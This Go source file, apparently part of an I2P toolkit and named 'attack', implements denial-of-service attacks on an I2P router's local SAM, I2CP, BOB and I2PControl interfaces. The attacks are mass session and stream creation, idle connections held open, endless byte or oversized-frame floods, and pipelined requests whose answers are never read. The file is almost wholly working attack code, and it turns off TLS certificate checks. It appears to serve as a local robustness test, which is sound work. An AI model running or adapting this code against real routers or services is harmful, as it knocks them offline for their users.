package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"time"

	"i2ptoolkit/pkg/i2cp"
	"i2ptoolkit/pkg/i2p"
	"i2ptoolkit/pkg/sign"
)

// Door is one of the servers for applications, on the machine of the victim: whoever attacks it runs there.
type Door string

// The doors, by their tables of the settings.
const (
	SAM        Door = "sam"
	I2CP       Door = "i2cp"
	BOB        Door = "bob"
	I2PControl Door = "i2pcontrol"
)

// Doors are all of them.
var Doors = []Door{SAM, I2CP, BOB, I2PControl}

// at is where a door is open.
func (d Door) at() string {
	return map[Door]string{SAM: "127.0.0.1:7656", I2CP: "127.0.0.1:7654", BOB: "127.0.0.1:2827", I2PControl: "127.0.0.1:7650"}[d]
}

// doorPatience is how long whoever talks to a door waits for its answers.
const doorPatience = 20 * time.Second

// talk is a connection with a door.
type talk struct {
	net.Conn
	in *bufio.Reader
}

func newTalk(c net.Conn) *talk { return &talk{c, bufio.NewReaderSize(c, 1<<10)} }

// open connects to a door, and begins as one does there who means well.
func (d Door) open(ctx context.Context) (*talk, error) {
	c, err := (&net.Dialer{Timeout: doorPatience}).DialContext(ctx, "tcp", d.at())
	if err != nil {
		return nil, err
	}
	t, err := d.greet(c)
	if err != nil {
		c.Close()
	}
	return t, err
}

func (d Door) greet(c net.Conn) (t *talk, err error) {
	c.SetDeadline(time.Now().Add(doorPatience))
	defer c.SetDeadline(time.Time{})
	switch t = newTalk(c); d {
	case SAM:
		_, err = t.ask("HELLO VERSION")
	case I2CP:
		_, err = hear[i2cp.SetDate](t, i2cp.ProtocolByte, i2cp.GetDate{Version: "0.9.67"})
	case BOB:
		if _, err = t.line(); err == nil {
			_, err = t.line()
		}
	case I2PControl:
		t = newTalk(tls.Client(c, &tls.Config{InsecureSkipVerify: true})) // it shakes hands with the first word
	}
	return t, err
}

var errDoor = errors.New("the door says otherwise")

func (t *talk) line() (string, error) {
	line, err := t.in.ReadString('\n')
	return strings.TrimSpace(line), err
}

// ask says a line to SAM and is told that all is well.
func (t *talk) ask(line string) (string, error) {
	if _, err := io.WriteString(t, line+"\n"); err != nil {
		return "", err
	}
	got, err := t.line()
	if err == nil && !strings.Contains(got, "RESULT=OK") && !strings.HasPrefix(got, "DEST REPLY PUB=") {
		err = fmt.Errorf("%w: %.200s", errDoor, got)
	}
	return got, err
}

// hear says something by I2CP, and waits for an M.
func hear[M i2cp.Message](t *talk, first byte, say i2cp.Message) (m M, err error) {
	var b []byte
	if first != 0 {
		b = append(b, first)
	}
	if _, err := t.Write(i2cp.Append(b, say)); err != nil {
		return m, err
	}
	kind, body, err := i2cp.Read(t.in, nil)
	if err != nil {
		return m, err
	}
	got, err := i2cp.Parse(kind, body)
	if err != nil {
		return m, err
	}
	m, ok := got.(M)
	if !ok {
		return m, fmt.Errorf("%w: %v", errDoor, kind)
	}
	return m, nil
}

// Sessions are many sessions of SAM at one router, of one tunnel each way, with what belongs to them: a connection that
// waits in ACCEPT for each, and streams between them.
type Sessions struct {
	Count int
	Held  bool // the sessions are there: what belongs to them is opened alone
	// Sockets is how many sessions' worth of connections there are: one to ask by, one that waits in ACCEPT and an end
	// of a stream for each. Those that have no session of their own use the others'.
	Sockets int
	counts
}

// sessionsAtOnce is how many open at the same time.
const sessionsAtOnce = 16

// keys are those of a session, the same each time.
func (a *Sessions) keys(i int) *i2p.PrivateKeys {
	var seed [32]byte
	binary.BigEndian.PutUint64(seed[:], uint64(i))
	k, err := i2p.GenerateDestination(sign.EdDSA_SHA512_Ed25519, i2p.CryptoElGamal, rand.NewChaCha8(seed))
	if err != nil {
		panic(err) // of no randomness that could lack
	}
	return k
}

// Run is Attack's.
func (a *Sessions) Run(ctx context.Context) {
	var all sync.WaitGroup
	slots := make(chan struct{}, sessionsAtOnce)
	keep := func(name string, open func(ctx context.Context) (net.Conn, error)) {
		all.Go(func() {
			again(ctx, time.Second, func() {
				select {
				case slots <- struct{}{}:
				case <-ctx.Done():
					return
				}
				c, err := open(ctx)
				<-slots
				if err != nil {
					a.outcome(name, err)
					return
				}
				a.add(name+" there", 1)
				hold(ctx, c)
				a.add(name+" there", -1)
			})
		})
	}
	for i := range a.Count {
		if a.Held {
			break
		}
		keep("sessions", func(ctx context.Context) (net.Conn, error) {
			return said(ctx, fmt.Sprintf("SESSION CREATE STYLE=STREAM ID=crowd%d DESTINATION=%s inbound.quantity=1 outbound.quantity=1", i, i2p.EncodeBase64(a.keys(i).AppendTo(nil))))
		})
	}
	for i := range a.Sockets {
		if i >= a.Count {
			keep("connections", func(ctx context.Context) (net.Conn, error) { return SAM.open(ctx) })
		}
		id := fmt.Sprintf("crowd%d", i%a.Count)
		accept := func(ctx context.Context) (net.Conn, error) { return said(ctx, "STREAM ACCEPT ID="+id) }
		keep("acceptors", accept)
		if i%2 == 0 { // a stream, whose other end somebody takes who waits
			keep("acceptors", accept)
			to := a.keys((i + 1) % a.Count).Destination().Base64()
			keep("streams", func(ctx context.Context) (net.Conn, error) {
				return said(ctx, "STREAM CONNECT ID="+id+" DESTINATION="+to)
			})
		}
	}
	all.Wait()
}

// sessionPatience is how long a session, or a stream in a crowd, may take.
const sessionPatience = 5 * time.Minute

// said is a connection with SAM of which one line was answered well.
func said(ctx context.Context, line string) (net.Conn, error) {
	t, err := SAM.open(ctx)
	if err != nil {
		return nil, err
	}
	stop := context.AfterFunc(ctx, func() { t.Close() })
	t.SetDeadline(time.Now().Add(sessionPatience))
	_, err = t.ask(line)
	t.SetDeadline(time.Time{})
	if !stop() || err != nil {
		t.Close()
		return nil, errors.Join(err, context.Cause(ctx))
	}
	return t, nil
}

// hold keeps a connection until it ends, or ctx does.
func hold(ctx context.Context, c net.Conn) {
	defer context.AfterFunc(ctx, func() { c.Close() })()
	io.Copy(io.Discard, c)
	c.Close()
}

// Hush is connections with a door that never say anything.
type Hush struct {
	Door  Door
	Count int
	Greet bool // they begin as they should, and say nothing then
	counts
}

// hushPause is after what time one comes back that was closed.
const hushPause = 2 * time.Second

// Run is Attack's.
func (a *Hush) Run(ctx context.Context) {
	var all sync.WaitGroup
	slots := make(chan struct{}, 64)
	for range a.Count {
		all.Go(func() {
			again(ctx, hushPause, func() {
				slots <- struct{}{}
				c, err := a.open(ctx)
				<-slots
				if err == nil {
					a.add("silent connections", 1)
					hold(ctx, c)
				} else if ctx.Err() == nil {
					a.add("silent connections failed", 1)
				}
			})
		})
	}
	all.Wait()
}

func (a *Hush) open(ctx context.Context) (net.Conn, error) {
	if a.Greet {
		return a.Door.open(ctx)
	}
	return (&net.Dialer{Timeout: doorPatience}).DialContext(ctx, "tcp", a.Door.at())
}

// Flow is connections with a door that say without end what Words gives, and do not read what is answered.
type Flow struct {
	Door  Door
	Count int
	Greet bool // they begin as they should
	Words []byte
	counts
}

// Run is Attack's.
func (a *Flow) Run(ctx context.Context) {
	var all sync.WaitGroup
	for range a.Count {
		all.Go(func() {
			again(ctx, 100*time.Millisecond, func() { a.outcome("connections", a.flow(ctx)) })
		})
	}
	all.Wait()
}

func (a *Flow) flow(ctx context.Context) error {
	var c net.Conn
	var err error
	if a.Greet {
		c, err = a.Door.open(ctx)
	} else {
		c, err = (&net.Dialer{Timeout: doorPatience}).DialContext(ctx, "tcp", a.Door.at())
	}
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	for piece := bytes.Repeat(a.Words, 1+(8<<10)/len(a.Words)); ; {
		n, err := c.Write(piece)
		a.add("bytes", n)
		if err != nil {
			return nil // the door has had enough
		}
	}
}

// endless are words without an end, at each door.
func endless(d Door) *Flow {
	f := &Flow{Door: d, Count: 64, Words: []byte{'x'}}
	switch d {
	case I2CP: // a message that takes what it may, and then the next
		f.Greet, f.Words = true, append([]byte{0, 0, 0xff, 0xff, 0xff}, make([]byte, 0xffff)...)
	case I2PControl:
		f.Greet, f.Words = true, []byte("POST / HTTP/1.1 and so on ")
	}
	return f
}

// unread are questions whose answers nobody reads, at each door.
func unread(d Door) *Flow {
	return &Flow{Door: d, Count: 64, Greet: true, Words: map[Door][]byte{
		SAM:        []byte("NAMING LOOKUP NAME=nobody.i2p\nDEST GENERATE SIGNATURE_TYPE=7\n"),
		I2CP:       i2cp.Append(i2cp.Append(nil, i2cp.GetBandwidthLimits{}), i2cp.HostLookup{Session: i2cp.NoSession, Kind: i2cp.LookupHost, Host: "nobody.i2p", Timeout: time.Second}),
		BOB:        []byte("help\nlookuplocal nobody.i2p\nlist\n"),
		I2PControl: []byte("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 48\r\n\r\n" + `{"jsonrpc":"2.0","id":1,"method":"Echo","x":"y"}`),
	}[d]}
}
